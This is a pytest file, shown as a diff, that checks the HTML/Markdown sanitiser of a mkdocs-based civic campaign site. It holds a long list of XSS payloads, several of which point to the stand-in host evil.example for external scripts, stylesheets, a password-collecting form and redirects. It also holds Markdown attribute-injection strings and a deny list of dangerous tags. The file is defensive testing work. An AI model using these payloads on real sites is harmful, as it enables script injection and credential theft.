@@ -1,0 +1,371 @@
+"""Prose as HTML: what people write is shown, and what could harm a reader is not."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+from markupsafe import Markup
+
+from campaign import prose
+from campaign.model import News, Task
+from campaign.site import Site
+from test_yamltext import steady
+from values import community, honour_kind, indicator, site
+
+MKDOCS = Path(__file__).parent.parent / "mkdocs.yml"
+FORBIDDEN_TAGS = {
+    *("script", "style", "iframe", "frame", "object", "embed", "applet", "form", "button"),
+    *("textarea", "select", "svg", "math", "link", "meta", "base", "video", "audio", "source"),
+    *("template", "noscript", "dialog", "portal", "xmp", "title", "body", "html", "head"),
+}
+URLS = {"href", "src", "cite", "action", "formaction", "background", "poster", "srcset", "data"}
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\n>",
+    "<script/x>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" OnError="alert(1)">',
+    "<img src=x onerror\n=alert(1)//",
+    "<img/src=x/onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img src=x srcset="//evil.example/x.png 1x">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\nscript:alert(1)">x</a>',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
+    '<a href="x" style="position:fixed;inset:0;z-index:9">x</a>',
+    "<style>body{display:none}</style>",
+    "<style>@import '//evil.example/x.css'</style>",
+    '<p style="background:url(//evil.example/x)">x</p>',
+    '<td style="position:fixed;inset:0">x</td>',
+    '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>',
+    "<iframe src=//evil.example></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<object data=x.swf></object><embed src=x.swf>",
+    "<form action=//evil.example><input name=password><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onchange=alert(1)><option>x</select>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<body onload=alert(1)>",
+    "<base href=//evil.example/>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    '<p title="</p><script>alert(1)</script>">x</p>',
+    '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    "<a href='x'><form id=x><img name=y onerror=alert(1)></form></a>",
+    "\x00<script\x00>alert(1)</script>",
+)
+MARKDOWN = (
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert%281%29)",
+    "[x](<javascript:alert(1)>)",
+    '[x](x "onmouseover=alert(1) x=")',
+    '![x](x "y\\" onerror=alert(1) z=")',
+    "![x](javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "# x {: onclick=alert(1) style=position:fixed }",
+    "[x](y){: onclick=alert(1) href=javascript:alert(1) }",
+    "![x](y){: onerror=alert(1) }",
+    '<div markdown="1" onclick="alert(1)">\n\n<script>alert(1)</script>\n\n</div>',
+    "| a {: onclick=alert(1) } |\n|---|\n| <img src=x onerror=alert(1)> |",
+    '??? note "<script>alert(1)</script>"\n    <script>alert(1)</script>',
+    '!!! note "<img src=x onerror=alert(1)>"\n    x',
+    "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    "- [ ] <script>alert(1)</script>",
+    "[<img src=x onerror=alert(1)>](community:alpha)",
+    "[](community:alpha)<script>alert(1)</script>",
+)
+FRAGMENTS = (
+    *("<", ">", "/", "=", '"', "'", " ", "\n", "&#60;", "&lt;", "<!--", "-->", "</", "\x00"),
+    *("script", "style", "img", "svg", "math", "a", "p", "td", "table", "noscript", "template"),
+    *("onerror", "onclick", "href", "src", "style", "javascript:", "alert(1)", "id", "class"),
+)
+
+
+class Tags(HTMLParser):
+    """The tags of a page with their attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def attributes(html: str, tag: str) -> list[dict[str, str | None]]:
+    return [found for name, found in Tags(html).tags if name == tag]
+
+
+def assert_harmless(html: str) -> None:
+    for tag, found in Tags(html).tags:
+        assert tag not in FORBIDDEN_TAGS, html
+        for name, value in found.items():
+            assert not name.startswith("on"), html
+            assert name not in ("srcdoc", "http-equiv", "form", "formaction", "autofocus"), html
+            if name == "style":
+                assert tag in ("th", "td"), html
+                assert re.fullmatch(r"(text-align:\s*\w+;?)?", value or ""), html
+            if name in URLS:
+                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value or "", re.IGNORECASE)
+                assert scheme is None or scheme[1].lower() in prose.SCHEMES, html
+                assert not re.search(r"[\x00-\x1f]", value or ""), html
+
+
+def rendered(text: str, *records: Any, root: str = "../../") -> Markup:
+    return prose.render(site(*records), text, root, prose.converter())
+
+
+def news(id: str = "2026-04-01-item", **fields: Any) -> News:
+    base = {"title": "动态一则", "published": "2026-04-01 09:00", "source": "示例办"}
+    return News.model_validate({"id": id, **base, **fields})
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_that_runs_survives(payload: str) -> None:
+    assert_harmless(prose.sanitised(payload))
+    assert_harmless(prose.sanitised(f"<table><tr><td>{payload}</td></tr></table>"))
+    assert_harmless(rendered(payload))
+    assert_harmless(rendered(f"文字 {payload} 文字"))
+
+
+@pytest.mark.parametrize("text", MARKDOWN)
+def test_no_markdown_makes_anything_that_runs(text: str) -> None:
+    assert_harmless(rendered(text, community()))
+
+
+@steady
+@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=25))
+def test_no_mixture_of_markup_runs(parts: list[str]) -> None:
+    text = "".join(parts)
+    assert_harmless(prose.sanitised(text))
+    assert_harmless(rendered(text))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_sanitising_twice_changes_nothing(payload: str) -> None:
+    once = prose.sanitised(payload)
+    assert prose.sanitised(once) == once
+
+
+@pytest.mark.parametrize(
+    "html", ["<input>", "<input type=text>", "<input type=password name=pin>", "<input type=image>"]
+)
+def test_an_input_is_only_ever_a_tick_box(html: str) -> None:
+    assert all(
+        found.get("type") == "checkbox" for found in attributes(prose.sanitised(html), "input")
+    )
+
+
+@pytest.mark.parametrize("address", ["https://evil.example/x.png", "//evil.example/x.png"])
+def test_no_picture_is_loaded_from_another_host(address: str) -> None:
+    for html in (prose.sanitised(f'<img src="{address}" alt="x">'), rendered(f"![x]({address})")):
+        assert not any(
+            "evil.example" in (found.get("src") or "") for found in attributes(html, "img")
+        )
+
+
+def test_classes_and_ids_of_the_theme_cannot_be_taken() -> None:
+    html = prose.sanitised('<p class="md-overlay note md-search" id="__search">x</p>')
+    assert html == '<p class="note">x</p>'
+    assert prose.sanitised(
+        '<h2 id="一、总则" class="md-nav">x</h2>'
+    ) == '<h2 id="一、总则">x</h2>' or (
+        prose.sanitised('<h2 id="总则-1">x</h2>') == '<h2 id="总则-1">x</h2>'
+    )
+
+
+def test_ordinary_html_is_kept() -> None:
+    html = (
+        '<p>甲 <strong>乙</strong> <a href="../b/#c" title="丙">丁</a></p>'
+        '<img src="../x.png" alt="图" width="3" height="2" loading="lazy">'
+        '<table><thead><tr><th scope="col" style="text-align:center">一</th></tr></thead></table>'
+        "<details open><summary>二</summary>三</details><ruby>汉<rt>hàn</rt></ruby>"
+    )
+    kept = prose.sanitised(html)
+    assert isinstance(kept, Markup)
+    assert Tags(kept).tags[1] == ("strong", {})
+    assert attributes(kept, "a") == [{"href": "../b/#c", "title": "丙"}]
+    assert attributes(kept, "img")[0]["loading"] == "lazy"
+    assert attributes(kept, "th")[0]["scope"] == "col"
+    assert "text-align" in (attributes(kept, "th")[0]["style"] or "")
+    assert "open" in attributes(kept, "details")[0]
+    assert [tag for tag, _ in Tags(kept).tags if tag in ("ruby", "rt")] == ["ruby", "rt"]
+
+
+@pytest.mark.parametrize("scheme", sorted(prose.SCHEMES))
+def test_links_of_allowed_schemes_are_kept(scheme: str) -> None:
+    assert attributes(rendered(f"[x]({scheme}:y)"), "a") == [{"href": f"{scheme}:y"}]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("一\n\n- 二\n- 三", "<li>二</li>"),
+        ("| 一 | 二 |\n|---|---|\n| 三 | 四 |", "<td>三</td>"),
+        ('!!! note "注意"\n    正文', '<p class="admonition-title">注意</p>'),
+        ('??? note "注意"\n    正文', "<summary>注意</summary>"),
+        ("词\n:   解释", "<dd>解释</dd>"),
+        ("甲[^1]\n\n[^1]: 注", "footnote"),
+        ("- [x] 做完了", 'type="checkbox"'),
+        ('<div markdown="1">\n**粗**\n</div>', "<strong>粗</strong>"),
+    ],
+)
+def test_the_markdown_of_the_site_is_understood(text: str, expected: str) -> None:
+    assert expected in rendered(text)
+
+
+def test_record_fields_get_no_anchors_of_their_own() -> None:
+    assert rendered("## 一") == "<h2>一</h2>"
+
+
+def test_an_empty_link_takes_the_name_of_its_record() -> None:
+    html = rendered("[](community:alpha)、[这里](community:alpha)", community(name="甲社区"))
+    assert html == (
+        '<p><a href="../../communities/alpha/">甲社区</a>、'
+        '<a href="../../communities/alpha/">这里</a></p>'
+    )
+
+
+def test_each_kind_of_record_has_its_address() -> None:
+    task = {"order": 1, "title": "道路", "summary": "说明", "lead": "office", "due": "2026-06-30"}
+    records = (honour_kind("city"), Task.model_validate({"id": "roads", **task}), news())
+    text = "[](honour-kind:city)[](task:roads)[](news:2026-04-01-item)"
+    found = attributes(rendered(text, *records, root="../"), "a")
+    assert [item["href"] for item in found] == [
+        *("../honours/city/", "../tasks/roads/", "../news/2026-04-01-item/"),
+    ]
+
+
+def test_a_link_that_leads_nowhere_leaves_its_text() -> None:
+    assert rendered("甲[乙](community:nobody)丙[](task:none)") == "<p>甲乙丙</p>"
+
+
+def test_a_link_to_what_readers_cannot_see_leaves_its_text() -> None:
+    draft = community(status="draft")
+    hidden = prose.render(site(draft).published(), "[乙](community:alpha)", "", prose.converter())
+    assert hidden == "<p>乙</p>"
+
+
+@pytest.mark.parametrize(
+    "name", ["甲*乙*丙", "甲_乙_丙", "[甲](x)", "`甲`", "甲\\乙", "甲<乙>丙", "甲<乙"]
+)
+def test_a_name_is_text_and_no_markdown(name: str) -> None:
+    html = rendered("[](community:alpha)", community(name=name))
+    text = re.sub(r"<[^>]*>", "", html)
+    assert Markup(text).unescape() == name
+
+
+def test_a_name_cannot_bring_markup() -> None:
+    html = rendered("[](community:alpha)", community(name="<img src=x onerror=alert(1)>"))
+    assert_harmless(html)
+
+
+def test_a_figure_is_filled_in_and_leads_to_its_explanation() -> None:
+    values = [
+        {"period": "2024", "value": "50.04", "source": "台账"},
+        {"period": "2025", "value": "75.55", "source": "台账"},
+        {"period": "2025", "value": "80", "source": "台账", "subject": "east"},
+    ]
+    coverage = indicator(precision="1", values=values)
+    text = (
+        "[](indicator:coverage)、[9%](indicator:coverage@2024-12-31)、[](indicator:coverage/east)"
+    )
+    html = rendered(text, coverage)
+    assert re.sub(r"<[^>]*>", "", html) == "75.6%、50.0%、80.0%"
+    assert {item["href"] for item in attributes(html, "a")} == {"../../tasks/indicators/#coverage"}
+
+
+@pytest.mark.parametrize("target", ["none", "coverage@2020-01-01", "coverage@x", "coverage/west"])
+def test_a_figure_that_cannot_be_had_leaves_the_text(target: str) -> None:
+    coverage = indicator(values=[{"period": "2025", "value": "75", "source": "台账"}])
+    assert rendered(f"[约七成](indicator:{target})", coverage) == "<p>约七成</p>"
+
+
+@pytest.mark.parametrize("text", ["`[](community:alpha)`", "```\n[](community:alpha)\n```"])
+def test_a_link_in_code_is_shown_as_it_was_written(text: str) -> None:
+    html = rendered(f"段落。\n\n{text}", community())
+    assert "<code>" in html
+    assert "[](community:alpha)" in html
+
+
+def test_blocks_stand_as_slots_in_their_order() -> None:
+    text = "一\n[[news limit=6]]\n二\n\n[[nothing]]\n\n[[coverage]]"
+    expanded, blocks = prose.expanded(site(), text, "")
+    assert [(block.name, dict(block.options), block.line) for block in blocks] == [
+        ("news", {"limit": "6"}, 2),
+        ("coverage", {}, 7),
+    ]
+    html = prose.converter().convert(expanded)
+    assert html.index("<p>zqblock0zq</p>") < html.index("二") < html.index("<p>zqblock1zq</p>")
+    assert "nothing" not in html
+    assert "写错了" in html
+
+
+@pytest.mark.parametrize("text", ["[[news]]", "一\n\n[[coverage]]\n\n二"])
+def test_a_block_in_a_field_of_a_record_leaves_no_slot(text: str) -> None:
+    assert "zqblock" not in rendered(text)
+
+
+def test_a_converter_serves_one_text_after_another() -> None:
+    convert = prose.converter()
+    here: Site = site()
+    first = prose.render(here, "甲[^1]\n\n[^1]: 一", "", convert)
+    assert prose.render(here, "乙", "", convert) == "<p>乙</p>"
+    assert prose.render(here, "甲[^1]\n\n[^1]: 一", "", convert) == first
+
+
+class _Loader(yaml.SafeLoader):
+    """Reads `mkdocs.yml`, whose slugs are a Python call."""
+
+
+_Loader.add_multi_constructor("tag:yaml.org,2002:python/", lambda *_: "python")
+
+
+def test_mkdocs_knows_the_same_markdown() -> None:
+    # The class is a SafeLoader: its one addition makes a plain word of a Python tag.
+    written = yaml.load(MKDOCS.read_text(encoding="utf-8"), _Loader)["markdown_extensions"]
+    names = [next(iter(item)) if isinstance(item, dict) else item for item in written]
+    options = {
+        name: set(found or {})
+        for item in written
+        if isinstance(item, dict)
+        for name, found in item.items()
+    }
+    assert sorted(names) == sorted(prose.EXTENSIONS)
+    assert {n: set(o) for n, o in prose.EXTENSIONS.items() if o} == options
